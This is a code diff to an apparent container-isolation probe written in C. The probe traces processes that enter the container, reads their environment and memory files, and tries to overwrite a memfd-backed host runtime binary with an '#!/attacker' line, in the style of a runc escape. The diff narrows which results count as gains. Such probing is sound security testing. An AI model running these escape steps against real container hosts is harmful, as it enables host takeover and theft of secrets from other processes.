@@ -170,10 +170,11 @@ static int ambush(const char *seconds) {
       if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) {
         // It may have become the container's own program between the two looks; only what is still foreign counts.
         ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
-        waitpid(pid, nullptr, __WALL);
+        int status = 0;
+        bool stopped = waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
         count = readlink(path, target, sizeof target - 1);
         target[count < 0 ? 0 : count] = 0;
-        if (strstr(target, "memfd:") || count < 0) printf("gain: traced %d while it ran %s\n", pid, count < 0 ? "?" : target);
+        if (stopped && (strstr(target, "memfd:") || count < 0)) printf("gain: traced %d while it ran %s\n", pid, count < 0 ? "?" : target);
         ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
       }
       const char *things[] = {"environ", "mem", "maps", "cwd", "root"};
@@ -220,10 +221,13 @@ static int overwrite(int count, char **paths) {
     int look = open(paths[i], O_PATH);
     char again[64];
     snprintf(again, sizeof again, "/proc/self/fd/%d", look);
-    outcome("path", look);
+    char target[512];
+    ssize_t count = readlink(again, target, sizeof target - 1);
+    target[count < 0 ? 0 : count] = 0;
+    // The container's own programs are its own to overwrite.
+    if (!strstr(target, "memfd:")) continue;
     for (int attempt = 0; attempt < 2000; attempt++) {
       int fd = open(again, O_WRONLY);
-      if (fd < 0) fd = open(paths[i], O_WRONLY | O_TRUNC);
       if (fd >= 0) {
         printf("gain: opened for writing\n");
         outcome("write", write(fd, "#!/attacker\n", 12));
